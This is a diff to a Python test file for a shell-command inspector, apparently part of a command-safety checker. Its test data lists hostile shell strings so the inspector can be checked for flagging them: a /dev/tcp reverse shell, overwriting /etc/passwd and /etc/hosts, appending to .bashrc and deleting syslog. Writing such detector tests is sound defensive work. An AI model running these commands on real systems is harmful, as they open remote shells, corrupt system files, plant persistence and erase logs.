@@ -194,6 +194,16 @@ def test_commands_stand_once_where_only_their_words_differ():
         ("bash -i >& /dev/tcp/e/1 0>&1", ("/dev/tcp/e/1",), (">& on a network device",)),
         ("cat < /dev/tcp/e/1", (), ("< on a network device",)),
         ("echo a > $x", ("${x}",), ()),
+        ("ls && : > a", ("a",), ("a file emptied",)),
+        ("cd /etc && echo a > passwd", ("passwd",), ("> on a system path",)),
+        ("pushd /etc; echo a >> hosts", ("hosts",), (">> on a system path",)),
+        ("cd ~; echo a >> .bashrc", (".bashrc",), (">> on a start-up, login or hook file",)),
+        ("cd -P /var/log; rm syslog", ("syslog",), ("rm on a log",)),
+        ("cd /etc; touch passwd", ("passwd",), ("touch on a system path",)),
+        ("cd /etc; bash -c 'touch passwd'", ("passwd",), ("touch on a system path",)),
+        ("cd /etc; touch /opt/a ~/b", ("/opt/a", "~/b"), ()),
+        ("cd; touch a", ("a",), ()),
+        ("cd -; touch a", ("a",), ()),
         ('echo a > "$(date)"', ("${_}",), ()),
     ],
 )
@@ -255,6 +265,12 @@ def test_what_is_too_deep_or_too_much_is_not_read(command):
     facts = inspect_shell(command[:MAX_SHELL_BYTES])
     assert not facts.parsed
     assert facts.verb is Verb.ADMIN
+
+
+def test_code_in_code_is_read_up_to_a_bound_of_all_of_it():
+    assert inspect_shell("bash -c ls; " * 40).verb is Verb.QUERY
+    facts = inspect_shell("eval " * 12 + "echo " + "a" * 4000)
+    assert facts.findings == ("shell code inside of shell code, too much of it",)
 
 
 def test_the_bound_on_bytes_counts_bytes():
